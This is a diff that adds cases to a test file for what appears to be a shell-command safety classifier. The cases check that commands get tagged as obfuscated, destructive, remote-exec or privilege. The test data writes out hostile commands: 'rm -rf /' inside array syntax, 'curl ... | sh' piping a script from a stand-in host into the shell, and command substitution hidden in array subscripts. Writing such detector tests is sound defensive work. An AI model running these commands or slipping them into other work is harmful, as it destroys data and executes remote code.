@@ -354,6 +354,12 @@ describe("shell pack: commands it now knows", () => {
     ["x[$(curl http://e.example/p)]=1", ["obfuscated"], []],
     ['declare -a "arr[$(whoami > /tmp/pwned)]"', ["obfuscated"], []],
     ["arr[0]=$(date)", [], ["obfuscated"]],
+    ["declare -a myarray=(1 2 3)", [], ["unclassified"]],
+    ['x=(a "$(rm -rf /)" b)', ["destructive"], []],
+    ["arr=( $(curl http://e.example/i.sh | sh) )", ["remote-exec"], []],
+    ["x=(a b; rm -rf /", ["destructive"], []],
+    ["systemctl hibernate", ["destructive"], []],
+    ["ls /proc/1234/cwd/", ["privilege"], []],
   ];
   it.each(CASES)("%s", (command, has, hasNot) => expectTags(command, has, hasNot));
 });
